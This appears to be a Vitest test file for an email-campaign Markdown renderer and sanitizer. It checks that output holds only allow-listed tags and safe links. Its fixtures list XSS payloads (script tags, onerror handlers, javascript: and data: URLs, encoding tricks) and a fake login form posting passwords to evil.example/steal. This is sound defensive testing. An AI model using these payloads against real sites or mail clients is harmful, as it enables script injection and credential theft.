import { describe, expect, it } from "vitest";
import { COLORS } from "../components/index.ts";
import { campaignMarkdownToHtml, isAllowedLink, isBlankCampaignHtml, sanitizeCampaignHtml } from "./markdown.ts";

// The campaign body is the one place marketer-written content reaches subscribers' mail
// clients. Whatever is typed, the output may only hold the allow-listed elements, no event
// handlers, and links to http(s) or mailto only.

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ["href", "rel", "style", "title"],
  img: ["src", "alt", "title", "width", "style"],
  span: [],
  br: [],
  strong: [],
  b: [],
  em: [],
  i: [],
  s: [],
  del: [],
  thead: [],
  tbody: [],
  tr: [],
  ...Object.fromEntries(["p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "code", "pre", "table", "th", "td"].map((tag) => [tag, ["style"]])),
};

type Element = { tag: string; attributes: Record<string, string> };

const TAG = /<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s"'>/=]+(?:="[^"]*")?)*)\s*\/?>/g;

/** The elements of sanitizer output (which always quotes attributes with "), entities in values decoded. */
function elementsIn(html: string): Element[] {
  return [...html.matchAll(TAG)]
    .filter(([whole]) => !whole.startsWith("</"))
    .map(([, tag, attributes]) => ({
      tag: tag.toLowerCase(),
      attributes: Object.fromEntries(
        [...attributes.matchAll(/([^\s"'>/=]+)(?:="([^"]*)")?/g)].map(([, name, value = ""]) => [name.toLowerCase(), decodeEntities(value)]),
      ),
    }));
}

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);/gi, (_, hex) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);/g, (_, decimal) => String.fromCodePoint(Number(decimal)))
    .replaceAll("&quot;", '"')
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&amp;", "&");
}

/** Everything the allow-list promises about one piece of output. */
function expectSafe(html: string, label: string): void {
  // Outside the tags themselves, no "<" is left that a client could read as markup.
  expect(html.replace(TAG, ""), `${label}: stray markup`).not.toMatch(/</);
  for (const { tag, attributes } of elementsIn(html)) {
    expect(Object.keys(ALLOWED_ATTRIBUTES), `${label}: <${tag}>`).toContain(tag);
    for (const name of Object.keys(attributes)) {
      expect(name, `${label}: event handler on <${tag}>`).not.toMatch(/^on/);
      expect(ALLOWED_ATTRIBUTES[tag], `${label}: ${name} on <${tag}>`).toContain(name);
    }
    if (attributes.href !== undefined) expect(attributes.href, `${label}: href`).toMatch(/^(?:https?:\/\/[a-z0-9]|mailto:[^@\s]+@)/i);
    if (attributes.src !== undefined) expect(attributes.src, `${label}: src`).toMatch(/^https?:\/\/[a-z0-9]/i);
    if (attributes.style !== undefined) expect(attributes.style, `${label}: style`).not.toMatch(/url\(|expression|javascript|behavior|@import/i);
    if (tag === "a") expect(attributes.rel).toBe("noopener");
  }
}

const HOSTILE_MARKDOWN: Record<string, string> = {
  "a script tag": "<script>alert(1)</script>",
  "a script tag mid-paragraph": "Hello <script src=https://evil.example/x.js></script> world",
  "a script tag in mixed case": "<ScRiPt>alert(1)</sCrIpT>",
  "an HTML comment before a script": "<!-- x --><script>alert(1)</script>",
  "an img with onerror": '<img src=x onerror="alert(1)">',
  "an svg with onload": "<svg onload=alert(1)><circle r=1 /></svg>",
  "an iframe": '<iframe src="https://evil.example"></iframe>',
  "a form": '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  "a style block": "<style>body{background:url(javascript:alert(1))}</style>",
  "a raw link with onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
  "a javascript: link": "[click](javascript:alert(1))",
  "a javascript: link in mixed case": "[click](JaVaScRiPt:alert(1))",
  "a javascript: link spelled with an entity": "[click](jav&#x61;script:alert(1))",
  "a javascript: link split by a tab entity": "[click](java&#x09;script:alert(1))",
  "a javascript: link split by a NUL": "[click](java\u0000script:alert(1))",
  "a javascript: link in angle brackets": "[click](<javascript:alert(1)>)",
  "a javascript: reference link": "[click][x]\n\n[x]: javascript:alert(1)",
  "a javascript: autolink": "<javascript:alert(1)>",
  "a bare javascript: URL for linkify": "javascript:alert(1)",
  "a vbscript: link": "[click](vbscript:msgbox(1))",
  "a data: link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a data: autolink": "<data:text/html,<script>alert(1)</script>>",
  "a data: image": "![pic](data:image/png;base64,iVBORw0KGgo=)",
  "a javascript: image": "![pic](javascript:alert(1))",
  "a file: link": "[click](file:///etc/passwd)",
  "a protocol-relative link": "[click](//evil.example/path)",
  "a relative link": "[click](/account/delete)",
  "a title breaking out of its quotes": '[click](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  "a URL breaking out of its quotes": '[click](https://ok.example/"onmouseover="alert(1))',
  "an image inside a javascript: link": "[![x](https://ok.example/i.png)](javascript:alert(1))",
  "escaped markup": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "a link inside a heading inside a list": "- # [x](javascript:alert(1)) <b onmouseover=alert(1)>b</b>",
  "deep nesting": `${"> ".repeat(200)}[x](javascript:alert(1))`,
};

describe("hostile campaign Markdown", () => {
  for (const [label, markdown] of Object.entries(HOSTILE_MARKDOWN)) {
    it(`keeps nothing dangerous from ${label}`, () => {
      const html = campaignMarkdownToHtml(markdown);
      expectSafe(html, label);
      expect(html).not.toMatch(/<(script|iframe|svg|form|input|button|style|object|embed)\b/i);
    });
  }

  it("keeps the words of a link it cannot allow", () => {
    expect(campaignMarkdownToHtml("[read the terms](/terms)")).toBe('<p style="margin:0 0 16px"><span>read the terms</span></p>');
    expect(campaignMarkdownToHtml("[mail us](java&#x09;script:alert(1))")).toContain("<span>mail us</span>");
  });

  it("shows typed HTML as the text it is", () => {
    expect(campaignMarkdownToHtml("Use <b>bold</b> & <script>")).toBe('<p style="margin:0 0 16px">Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;</p>');
  });

  it("drops images from anywhere but http(s), with no broken box", () => {
    expect(campaignMarkdownToHtml("![pic](data:image/png;base64,iVBORw0KGgo=)")).not.toContain("<img");
    expect(campaignMarkdownToHtml("![pic](mailto:a@b.example)")).not.toContain("<img");
  });
});

describe("the sanitizer on raw HTML (as if markdown-it let it through)", () => {
  const RAW: Record<string, string> = {
    "img onerror": "<img src=x onerror=alert(1)>",
    "javascript: href": '<a href="javascript:alert(1)">x</a>',
    "javascript: href with leading space and entity": '<a href=" &#106;avascript:alert(1)">x</a>',
    "javascript: href split by a tab": '<a href="java\tscript:alert(1)">x</a>',
    "encoded javascript: that is relative to a parser": '<a href="java%09script:alert(1)">x</a>',
    "http without slashes": '<a href="http:evil.example">x</a>',
    "protocol-relative backslashes": '<a href="\\\\evil.example">x</a>',
    "style with url()": '<p style="background:url(javascript:alert(1))">x</p>',
    "style with expression()": '<td style="width:expression(alert(1));text-align:right">x</td>',
    "target and id attributes": '<a href="https://ok.example" target="_blank" id="x" class="y">x</a>',
    "script with content": "<p>a<script>alert(1)</script>b</p>",
    "svg with a script": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "math with a link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base href": '<base href="https://evil.example/">',
    "srcset": '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 2x">',
    "form with formaction": '<button formaction="javascript:alert(1)">x</button>',
    "textarea breakout": "<textarea></textarea><script>alert(1)</script></textarea>",
    "noscript parsing trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  };
  for (const [label, html] of Object.entries(RAW)) {
    it(`allows nothing dangerous from ${label}`, () => {
      const clean = sanitizeCampaignHtml(html);
      expectSafe(clean, label);
      expect(clean).not.toMatch(/<(script|iframe|svg|math|form|button|textarea|object|embed|meta|base|noscript)\b/i);
      expect(clean).not.toMatch(/srcset|xlink|formaction|target=|class=|id=/i);
    });
  }

  it("replaces any style with the email's own, keeping a table cell's alignment", () => {
    expect(sanitizeCampaignHtml('<p style="color:red;position:fixed">x</p>')).toBe('<p style="margin:0 0 16px">x</p>');
    expect(sanitizeCampaignHtml('<td style="text-align:right;background:url(x)">1</td>')).toBe(
      `<td style="border:1px solid ${COLORS.border};padding:6px 8px;text-align:right">1</td>`,
    );
  });
});

describe("campaign Markdown that a marketer writes", () => {
  const body = [
    "# Five tax tips",
    "Filing takes **minutes**, not _hours_. Read [the tips](https://tax.example.com/tips?utm_source=email&c=7 \"Tips\").",
    "- Keep receipts\n- Check your ~~address~~ details",
    "1. First\n2. Second",
    "> Quoted advice",
    "---",
    "Questions? <help@tax.example.com> or https://tax.example.com/help",
    "![Our office](https://tax.example.com/office.png)",
    "| Deadline | Fee |\n|:--|--:|\n| 31 July | £0 |",
    "```\nline one <b>\n```",
    "Inline `code`.",
  ].join("\n\n");

  it("renders every supported element with inline email styles", () => {
    const html = campaignMarkdownToHtml(body, { linkColor: "#1f6f4a" });
    expectSafe(html, "marketer Markdown");
    for (const tag of ["h1", "p", "strong", "em", "ul", "li", "s", "ol", "blockquote", "hr", "img", "table", "th", "td", "pre", "code"]) {
      expect(elementsIn(html).map((element) => element.tag), tag).toContain(tag);
    }
    expect(html).toContain(
      '<a href="https://tax.example.com/tips?utm_source=email&amp;c=7" rel="noopener" style="color:#1f6f4a;text-decoration:underline" title="Tips">the tips</a>',
    );
    expect(html).toContain('<a href="mailto:help@tax.example.com" rel="noopener" style="color:#1f6f4a;text-decoration:underline">help@tax.example.com</a>');
    expect(html).toContain('<a href="https://tax.example.com/help" rel="noopener"');
    expect(html).toContain('<img src="https://tax.example.com/office.png" alt="Our office" width="536" style="width:100%;max-width:100%;height:auto;border:0" />');
    expect(html).toMatch(/<td style="[^"]*text-align:right">£0<\/td>/);
    // A code block is one <pre>, its markup shown as text.
    expect(html).toContain(">line one &lt;b&gt;\n</pre>");
    for (const { tag, attributes } of elementsIn(html)) {
      if (!["span", "br", "strong", "b", "em", "i", "s", "del", "thead", "tbody", "tr"].includes(tag)) expect(attributes.style, tag).toBeTruthy();
    }
  });

  it("uses the default link colour when given anything but #rrggbb", () => {
    for (const linkColor of ["red", "#fff", "#000;background:url(x)"]) {
      expect(campaignMarkdownToHtml("[x](https://ok.example)", { linkColor })).toContain(`color:${COLORS.link};`);
    }
  });

  it("tells a blank body from one that shows something", () => {
    expect(isBlankCampaignHtml(campaignMarkdownToHtml("   \n\n"))).toBe(true);
    expect(isBlankCampaignHtml(campaignMarkdownToHtml("![x](data:image/png;base64,AA)"))).toBe(true);
    expect(isBlankCampaignHtml(campaignMarkdownToHtml("&nbsp;"))).toBe(true);
    expect(isBlankCampaignHtml(campaignMarkdownToHtml("![x](https://ok.example/a.png)"))).toBe(false);
    expect(isBlankCampaignHtml(campaignMarkdownToHtml("Hi"))).toBe(false);
  });
});

describe("isAllowedLink", () => {
  it("allows absolute http(s) URLs with a host and mailto: with an address, nothing else", () => {
    for (const href of ["https://ok.example", "http://ok.example/a?b=c#d", "mailto:help@ok.example", "mailto:help@ok.example?subject=Hi"]) {
      expect(isAllowedLink(href), href).toBe(true);
    }
    for (const href of ["javascript:alert(1)", "data:text/html,x", "/relative", "//ok.example", "http:ok.example", "https:///x", "mailto:", "ftp://ok.example", "tel:+15550100", " https://ok.example"]) {
      expect(isAllowedLink(href), href).toBe(false);
    }
  });
});
